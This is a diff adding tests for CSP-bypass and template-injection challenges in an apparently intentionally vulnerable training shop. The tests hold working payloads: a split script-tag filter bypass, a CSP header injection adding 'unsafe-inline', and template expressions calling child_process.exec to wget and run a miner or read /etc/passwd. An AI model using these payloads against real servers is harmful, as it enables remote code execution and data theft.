@@ -124,3 +124,99 @@ describe('Client-side XSS Protection (registration)', () => {
     await expectSolved(shop, 'persistedXssUserChallenge');
   });
 });
+
+/** The legacy profile page's form, sent as a browser sends it, with the session in the cookie. */
+async function profileSession() {
+  const customer = await registerCustomer(shop);
+  const { token } = await shop.login(customer.email, customer.password);
+  const cookie = `token=${token}`;
+  return {
+    cookie,
+    page: () => get('/profile', { cookie }),
+    save: (username: string, picture = '') =>
+      shop.app.inject({ method: 'POST', url: '/profile', headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' }, payload: new URLSearchParams({ username, picture }).toString() }),
+  };
+}
+const shownUsername = (html: string) => /<dd id="username">([\s\S]*?)<\/dd>/.exec(html)?.[1];
+
+describe('CSP Bypass (legacy profile page)', () => {
+  const BYPASS = '<scr<script>ipt>alert(`xss`)</scr</script>ipt>';
+
+  it('honest: a username and a picture from another site are saved and shown, under a policy without inline scripts', async () => {
+    const profile = await profileSession();
+    const saved = await profile.save('Kim', 'https://pictures.example/kim.png');
+    expect(saved.statusCode).toBe(200);
+    expect(saved.body).toContain('class="confirmation"');
+    const page = await profile.page();
+    expect(shownUsername(page.body)).toBe('Kim');
+    expect(page.body).toContain('src="https://pictures.example/kim.png"');
+    const policy = String(page.headers['content-security-policy']);
+    expect(policy).toMatch(/^img-src 'self' data: blob: https:\/\/pictures\.example\/kim\.png; default-src 'self'; script-src 'self';/);
+    // The filter takes a plain script tag out; the joined one gets through but the policy stops it.
+    await profile.save('<script>alert(`xss`)</script>Kim');
+    expect(shownUsername((await profile.page()).body)).toBe('alert(`xss`)Kim');
+    await profile.save(BYPASS);
+    expect(shownUsername((await profile.page()).body)).toBe('<script>alert(`xss`)</script>');
+    // A picture address must be http(s).
+    const refused = await profile.save('Kim', 'javascript:alert(1)');
+    expect(refused.statusCode).toBe(400);
+    expect(refused.body).toContain('class="error"');
+    // A form sent from another site is refused.
+    const foreign = await shop.app.inject({ method: 'POST', url: '/profile', headers: { cookie: profile.cookie, origin: 'http://evil.example', 'content-type': 'application/x-www-form-urlencoded' }, payload: 'username=Mallory' });
+    expect(foreign.statusCode).toBe(403);
+    expect(shownUsername((await profile.page()).body)).toBe('<script>alert(`xss`)</script>');
+    await expectNotSolved(shop, 'usernameXssChallenge');
+  });
+
+  it('exploit: a picture address that adds a script-src with unsafe-inline, and the joined script tag, solve it', async () => {
+    const profile = await profileSession();
+    expect((await profile.save(BYPASS, "https://pictures.example/kim.png; script-src 'unsafe-inline'")).statusCode).toBe(200);
+    const page = await profile.page();
+    expect(String(page.headers['content-security-policy'])).toMatch(/^img-src [^;]*; script-src 'unsafe-inline'; default-src 'self'; script-src 'self';/);
+    expect(shownUsername(page.body)).toBe('<script>alert(`xss`)</script>');
+    await expectSolved(shop, 'usernameXssChallenge');
+  });
+});
+
+describe('SSTi (legacy profile page, danger zone)', () => {
+  const MALWARE = 'http://localhost:3000/quarantine/pulp-miner-linux-x64';
+  const exec = (command: string) => `#{global.process.mainModule.require('child_process').exec('${command}')}`;
+
+  it('honest: usernames show as typed; expressions are evaluated; other commands, downloads and escapes solve nothing', async () => {
+    const profile = await profileSession();
+    await profile.save('Jade Orchard');
+    expect(shownUsername((await profile.page()).body)).toBe('Jade Orchard');
+    await profile.save('Jade #{6 * 7}');
+    expect(shownUsername((await profile.page()).body)).toBe('Jade 42');
+    await profile.save('#{process.version} #{typeof require}');
+    expect(shownUsername((await profile.page()).body)).toBe('v14.21.3 function');
+    for (const username of [
+      exec('ls -la'),
+      exec(`wget -O miner ${MALWARE}`),
+      exec('wget -O x http://example.com/miner && ./x'),
+      "#{this.constructor.constructor('return process')()}",
+      "#{''.constructor.constructor('return process')()}",
+      "#{require('fs').readFileSync('/etc/passwd')}",
+      '#{(() => 1)()}',
+    ]) {
+      await profile.save(username);
+      expect((await profile.page()).statusCode).toBe(200);
+    }
+    expect(shownUsername((await profile.page()).body)).toMatch(/^Your username could not be shown: /);
+    await expectNotSolved(shop, 'sstiChallenge');
+  });
+
+  it('exploit: a command that downloads the quarantined sample from the shop and runs it solves it; nothing is run', async () => {
+    const childProcess = jest.requireActual<typeof import('node:child_process')>('node:child_process');
+    const spies = (['exec', 'execSync', 'spawn', 'execFile', 'fork'] as const).map((name) => jest.spyOn(childProcess, name));
+    const sample = await get('/quarantine/pulp-miner-linux-x64');
+    expect(sample.statusCode).toBe(200);
+    expect(sample.body).toMatch(/^#!\/bin\/sh/);
+    const profile = await profileSession();
+    await profile.save(exec(`wget -O miner ${MALWARE} && chmod +x miner && ./miner`));
+    const page = await profile.page();
+    expect(shownUsername(page.body)).toBe('[object Object]');
+    await expectSolved(shop, 'sstiChallenge');
+    for (const spy of spies) expect(spy).not.toHaveBeenCalled();
+  });
+});
